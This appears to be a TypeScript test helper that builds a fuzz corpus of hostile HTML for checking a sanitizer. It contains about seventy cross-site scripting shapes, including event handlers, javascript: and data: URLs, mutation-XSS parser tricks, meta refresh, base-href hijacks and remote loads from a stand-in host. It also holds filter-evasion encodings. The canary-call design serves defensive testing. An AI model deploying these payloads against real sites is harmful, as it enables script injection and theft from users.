import { seededRandom } from './random.ts'

/** Placeholders for the script's call and its number in a snippet. */
const call = 'top.canary(0)'
const elsewhere = 'https://elsewhere.example'

/** Markup that in some browser runs `call`, loads from elsewhere or breaks out of its element. */
const shapes = [
  `<script>${call}</script>`,
  `<script src="${elsewhere}/x.js"></script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script>${call}//`,
  `<script/x>${call}</script\n>`,
  `<img src=x onerror=${call}>`,
  `<img src="/assets/abc" onload="${call}">`,
  `<img/src/onerror=${call}>`,
  `<img src="javascript:${call}">`,
  `<img """><script>${call}</script>">`,
  `<img srcset="javascript:${call} 1x, ${elsewhere}/a.png 2x" src="/assets/abc">`,
  `<img src="${elsewhere}/track.gif">`,
  `<img src="//elsewhere.example/track.gif">`,
  `<img src="/assets/abc?w=1" alt="&quot; onerror=&quot;${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `<a href=" \u0001javascript:${call}">x</a>`,
  `<a href="jav&#x09;ascript&colon;${call}">x</a>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<a href="vbscript:${call}">x</a>`,
  `<a href="https://good.example/?a=1&quot; onclick=&quot;${call}">x</a>`,
  `<a href="x" onclick="${call}" onfocus=${call} autofocus tabindex=1>x</a>`,
  `<p style="background:url(${elsewhere}/x.png)" onpointerrawupdate=${call}>x</p>`,
  `<p onanimationstart=${call} style="animation:x 1s">x</p>`,
  `<style>@import "${elsewhere}/x.css";</style>`,
  `<style><img src="</style><img src=x onerror=${call}>">`,
  `<link rel="stylesheet" href="${elsewhere}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<base href="${elsewhere}/"><img src="/assets/abc">`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="${elsewhere}/x.svg">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  `<svg><style><img title="</style><img src=x onerror=${call}>"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${call}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${call}>">`,
  `<title><img title="</title><img src=x onerror=${call}>">`,
  `<template><img src=x onerror=${call}></template>`,
  `<form action="javascript:${call}"><button formaction="javascript:${call}">x</button></form>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<video><source onerror="${call}"></video>`,
  `<body onload=${call}>`,
  `<table background="${elsewhere}/x.png"><tr><td background="javascript:${call}">x</td></tr></table>`,
  `<!--<img src="--><img src=x onerror=${call}//">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml version="1.0"?><script>${call}</script>`,
  `<xmp><img title="</xmp><img src=x onerror=${call}>">`,
  `<plaintext><script>${call}</script>`,
  `"><script>${call}</script>`,
  `</div></main></body><script>${call}</script>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<a href="blob:${elsewhere}/1">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="//elsewhere.example">x</a>`,
  `<a href="/\\elsewhere.example">x</a>`,
  `<a href="/\t/elsewhere.example">x</a>`,
  `<a href="${elsewhere}" target="_top" rel="opener">x</a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"></svg>`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<audio src=x onerror=${call}>`,
  `<h2 id="content" onclick=${call}>x</h2><h3 id="__proto__">y</h3>`,
  `<p class="site-header" id="content" data-native is="x-y" slot="z">x</p>`,
]

/** Where a snippet may stand; some parsers read it another way there. */
const contexts: ((html: string) => string)[] = [
  (html) => html,
  (html) => `<p>before</p>${html}<p>after</p>`,
  (html) => `<ul><li>${html}`,
  (html) => `<table><tr><td>${html}</td></tr></table>`,
  (html) => `<table>${html}</table>`,
  (html) => `<a href="/"><h2>${html}</h2></a>`,
  (html) => `<img alt="${html}" src="/assets/abc">`,
  (html) => `<a href='${html}'>x</a>`,
  (html) => `<p title=${html}>x</p>`,
  (html) => `<svg><p>${html}`,
  (html) => `<math><annotation-xml encoding="text/html">${html}`,
  (html) => `<svg><foreignObject>${html}</foreignObject></svg>`,
  (html) => `<select><option>${html}</select>`,
  (html) => `<!-- ${html} -->`,
  (html) => `<noembed>${html}</noembed>`,
]

const entities = (text: string, of: RegExp) => text.replaceAll(of, (char) => `&#x${char.codePointAt(0)?.toString(16)};`)

/** Spellings of a snippet that filters miss. */
const encodings: ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
  (html) => html.replaceAll('<', '<\0'),
  (html) => html.replaceAll(/(?<=<\/?[a-z])/g, '\0'),
  (html) => html.replaceAll('=', '\n=\t'),
  (html) => entities(html, /[<>"]/g),
  (html) => entities(html, /[:(]/g),
  (html) => html.replaceAll('&', '&amp;').replaceAll('<', '&lt;'),
  (html) => html.replaceAll('"', '`'),
  (html) => html.slice(0, -1),
]

const characters = [
  '<',
  '>',
  '"',
  "'",
  '`',
  '=',
  '/',
  '&',
  '\0',
  '\n',
  '<!--',
  '-->',
  ']]>',
  '\uFEFF',
  '\u2028',
] as const

/** A snippet with a piece of another one put into it, or a few characters added and taken away. */
function mutate(html: string, other: string, { below, pick }: ReturnType<typeof seededRandom>): string {
  const at = below(html.length + 1)
  const from = below(other.length)
  const piece = below(2) ? other.slice(from, from + 1 + below(40)) : pick(characters)
  return html.slice(0, at) + piece + html.slice(at + below(4))
}

/**
 * Hostile HTML: every shape in every context and way of writing, and `mutations` of them made by
 * chance. The script in snippet n calls `top.canary(n)`.
 */
export function hostileSnippets(seed: number, mutations: number): string[] {
  const plain = shapes.flatMap((shape) =>
    contexts.flatMap((context) => encodings.map((encode) => encode(context(shape)))),
  )
  const random = seededRandom(seed)
  const one = () => plain[random.below(plain.length)] ?? ''
  const mutated = Array.from({ length: mutations }, () => mutate(one(), one(), random))
  return [...plain, ...mutated].map((html, index) => html.replaceAll(call, call.replace('0', String(index))))
}
